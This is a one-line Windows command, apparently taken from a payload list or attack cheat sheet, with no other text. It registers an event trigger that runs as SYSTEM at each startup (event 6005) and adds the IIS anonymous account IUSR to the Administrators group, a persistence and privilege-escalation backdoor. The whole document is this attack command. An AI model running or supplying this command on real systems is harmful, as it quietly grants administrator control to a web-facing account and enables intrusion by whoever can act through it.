eventtriggers /create /tr "x" /l SYSTEM /eid 6005 /ru SYSTEM /tk "net localgroup Administrators IUSR /add"
